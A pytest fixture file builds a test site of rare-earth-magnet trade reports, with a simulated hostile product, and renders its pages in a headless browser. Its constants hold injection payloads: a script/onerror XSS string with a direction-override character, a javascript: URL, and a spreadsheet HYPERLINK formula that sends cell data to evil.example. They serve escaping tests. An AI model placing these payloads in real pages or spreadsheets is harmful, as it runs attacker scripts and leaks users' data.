"""A site of seven editions of three products, one hostile and simulated, and a browser that opens files alone."""

import os
import shutil
from pathlib import Path

import pytest

from helpers import paths
from tests.conftest import command, portal, row

# every way out of a text that a page, a feed, a spreadsheet or a link could offer
HOSTILE = "Evil\"'><script>document.title='owned';alert(1)</script><img src=x onerror=alert(2)>\u202egnp\u202c"
HOSTILE_URL = "javascript:alert('url')"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
ARTICLE = f"""{HOSTILE}

In June 2025 China exported 353 tonnes of rare earth magnets to the United States, up 660 percent from May. {FORMULA}
Exports to Germany rose to 764 tonnes, said [a trader]({HOSTILE_URL}); {HOSTILE} total exports fell 38.1% on the year.
"""
MAGNETS = "rare-earth-magnets"
LIST = f"""
- {{product: {MAGNETS}, period: [2025-06, 2025-07, 2025-08]}}
- {{product: rare-earths}}
- {{product: evil, period: [2025-06, 2025-07]}}
"""


def _quoted(*texts: str) -> str:
    return ",".join('"' + text.replace('"', '""') + '"' for text in texts)


def _add_hostile_product(data: Path) -> None:
    """A simulated product of hostile names: in the table of products, in a download, among the publishers."""
    with (data / "reference" / "products.csv").open("a") as file:
        title, noun, scope = (_quoted(f"{words} {HOSTILE}") for words in ("Title", "goods", "@scope"))
        file.write(f"evil,{title},{noun},12019090,export,CHN,JPN,{scope}\n")
    name = HOSTILE.replace('"', "“")
    rows = [
        row(f"{year}{month:02}", code="12019090", partner=partner, kg=str(1000 * month + year), name=name)
        for year in (2024, 2025)
        for month in range(1, 13)
        for partner in ("502", "304", "408")
        if (year, month) <= (2025, 7)
    ]
    for line in rows:
        line[2] = f"simulated {name}"
    (data / "evil.csv").write_bytes(portal(rows))
    words = ("--flow", "export", "--vintage", "2025-08-20", "--partners", "all")
    done = command("intake", str(data / "evil.csv"), *words, data=data)
    assert done.returncode == 0, done.stdout + done.stderr
    (press,) = data.glob("raw/press/*/published_figures.csv")
    titles = _quoted(FORMULA + HOSTILE, "2025-08-21", HOSTILE_URL)
    with press.open("a") as file:
        file.write(f"2025-06,2025-06,CHN,DEU,export,12019090,evil,net_mass_t,8,1,{titles},\n")
    with (press.parent / "published_claims.csv").open("a") as file:
        file.write(f"2025-06,2025-06,CHN,JPN,export,12019090,evil,share_pct,12.5,,0.1,{titles},\n")
    source = press.parent / "source.yml"
    source.write_text(source.read_text().replace("rows: 717", "rows: 718").replace("rows: 341", "rows: 342"))


def build(root: Path) -> Path:
    """Reports of the shipped figures for three months and two vintages, of another product, and of the hostile one.

    Returns:
        The folder of the reports; pages that are no part of a site lie in ``pages`` beside it.
    """
    data, reports, pages = root / "data", root / "reports", root / "pages"
    pages.mkdir(parents=True)
    shutil.copytree(paths.REFERENCE, data / "reference")
    shutil.copytree(paths.RAW, data / "raw")
    (data / "reference" / "corrections.yml").write_text("[]\n")
    _add_hostile_product(data)
    (root / "list.yml").write_text(LIST)
    (root / "article.txt").write_text(ARTICLE)
    old = f"{MAGNETS}/2025-06/2025-07-21"
    runs = [
        ["report", "2025-06", "--vintage", "2025-07-21", "--jobs", "2"],
        ["report", "--list", str(root / "list.yml"), "--jobs", "2"],
        ["diff", old, f"{MAGNETS}/2025-06/2026-11-23", "--page", str(pages / "diff.html")],
        ["check", str(root / "article.txt"), "--url", HOSTILE_URL, "--html", str(pages / "article.html")],
    ]
    for words in runs:
        done = command(*words, data=data, reports=reports)
        assert done.returncode == 0, done.stdout + done.stderr
    return reports


@pytest.fixture(scope="session")
def built(tmp_path_factory) -> Path:
    """The site, built once; ``LODESTONE_TEST_SITE`` names one built before, to try a test against."""
    if kept := os.environ.get("LODESTONE_TEST_SITE"):
        return Path(kept)
    return build(tmp_path_factory.mktemp("site"))


@pytest.fixture(scope="session")
def browser():
    from playwright.sync_api import sync_playwright

    from helpers import pdf

    with sync_playwright() as play:
        one = play.chromium.launch(executable_path=pdf.chromium(), args=["--no-sandbox"])
        yield one
        one.close()
